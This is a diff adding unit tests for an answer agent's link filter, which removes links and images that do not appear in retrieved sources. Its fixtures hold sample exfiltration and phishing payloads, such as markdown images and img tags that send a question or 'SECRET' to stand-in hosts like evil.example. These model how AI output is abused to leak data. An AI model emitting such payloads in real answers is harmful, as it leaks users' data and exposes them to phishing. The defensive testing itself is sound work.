@@ -68,3 +68,35 @@ def test_refusal_detection() -> None:
 ])
 def test_an_answer_that_only_repeats_the_question_is_recognised(answer, question, echo) -> None:
     assert restates_question(answer, question) is echo
+
+
+def test_links_and_images_not_in_the_question_or_sources_are_removed() -> None:
+    from agents.links import REMOVED, filter_links
+
+    sources = ["Reset it at https://intranet.example/reset. Items can be returned within 30 days."]
+    assert filter_links("30 days ![logo](https://evil.example/c?q=my+question) [1].", sources) == (
+        "30 days [1].", 1)  # an image is a request the browser makes: never kept
+    assert filter_links("<img src='https://c.example/x?d=SECRET'> 15 kg", sources) == ("15 kg", 1)
+    assert filter_links("See https://intranet.example/reset.", sources) == (
+        "See https://intranet.example/reset.", 0)  # copied from a source: kept
+    assert filter_links("[reset](https://intranet.example/reset)", sources)[1] == 0
+    assert filter_links("Verify at http://login.evil.example/x now", sources) == (
+        f"Verify at {REMOVED} now", 1)
+    assert filter_links("[confirm](http://pay.evil.example/f) by the 25th", sources) == (
+        f"confirm {REMOVED} by the 25th", 1)
+    # a source's URL with the question appended is not the source's URL
+    assert filter_links("https://intranet.example/reset?q=question", sources)[1] == 1
+    assert filter_links("Read https://docs.example/a as you asked.", ["see https://docs.example/a"]
+                        ) == ("Read https://docs.example/a as you asked.", 0)
+
+
+def test_cited_answer_filters_links_before_citations() -> None:
+    from agents.generation import cited_answer
+    from retrieval.types import RetrievedChunk
+
+    chunk = RetrievedChunk(id="c1", text="Returns are accepted within 30 days.", source="r.md",
+                           page=None, chunk_index=0, score=1.0)
+    out = cited_answer("Within 30 days [1]. ![x](https://evil.example/p.png?d=q)", [chunk],
+                       "How long for returns?")
+    assert out["answer"] == "Within 30 days [1]." and out["links_removed"] == 1
+    assert [c.chunk_id for c in out["citations"]] == ["c1"]
